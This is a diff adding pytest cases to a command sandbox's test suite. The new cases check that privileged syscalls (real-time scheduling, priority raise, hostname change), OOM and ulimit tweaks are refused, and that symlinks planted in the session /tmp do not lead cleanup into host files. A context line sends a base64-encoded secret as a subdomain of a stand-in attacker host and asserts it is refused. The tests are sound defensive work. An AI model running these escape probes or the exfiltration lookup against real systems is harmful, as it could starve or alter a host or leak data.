@@ -913,3 +913,45 @@ def test_a_refused_name_is_never_resolved(tmp_path: Path, monkeypatch: pytest.Mo
         socks(p, 3, bytes([22]) + b"c2VjcmV0.attacker.test", 443)
     assert not any("attacker" in str(host) for host in asked), asked
     assert [r.host for r in p.refusals] == ["c2VjcmV0.attacker.test"] * 3
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("kind", BACKENDS)
+async def test_privileged_knobs_are_refused(kind: str, tmp_path: Path) -> None:
+    """Knobs that would let a command starve or outlive the host's own processes, or rename the host."""
+    require(os.uname().machine == "x86_64", "syscall numbers below are x86_64's")
+    host_name = socket.gethostname()
+    script = (
+        'my $p = pack("i", 1); my $n = "shellrt-evil"; '
+        "print join q{ }, syscall(141, 0, 0, -20), "  # setpriority(PRIO_PROCESS, self, -20)
+        "syscall(144, 0, 1, $p), "  # sched_setscheduler(self, SCHED_FIFO, 1): real time starves the host
+        "syscall(170, $n, 12), "  # sethostname
+        "syscall(171, $n, 12);"  # setdomainname
+    )
+    async with box(kind, tmp_path) as b:
+        _, syscalls = await b.sh(f"perl -e '{script}'")
+        _, knobs = await b.sh(
+            "(echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo OOM_ADJ; "
+            "ulimit -Hn $(( $(ulimit -Hn) + 1 )) 2>/dev/null && echo RLIMIT_RAISED; "
+            'ulimit -Hu unlimited 2>/dev/null && [ "$(ulimit -Hu)" = unlimited ] && echo NPROC_UNLIMITED; '
+            "echo done"
+        )
+    assert syscalls.split() == ["-1"] * 4, syscalls
+    assert knobs.split() == ["done"], knobs
+    assert socket.gethostname() == host_name
+
+
+@pytest.mark.anyio
+async def test_symlinks_left_in_the_session_tmp_are_not_followed_when_it_is_removed(tmp_path: Path) -> None:
+    """bwrap's /tmp is a host directory removed at close: links planted there must not lead the
+    removal into host files."""
+    canary = tmp_path / "canary"
+    canary.mkdir()
+    (canary / "keep.txt").write_text("host file\n")
+    async with box("bwrap", tmp_path) as b:
+        code, out = await b.sh(
+            f"ln -s {canary} /tmp/to-canary; mkdir -p /tmp/d; ln -s {canary}/keep.txt /tmp/d/keep; "
+            f"ln -s {canary} /tmp/d/deeper; ls /tmp"
+        )
+        assert code == 0, out
+    assert (canary / "keep.txt").read_text() == "host file\n"
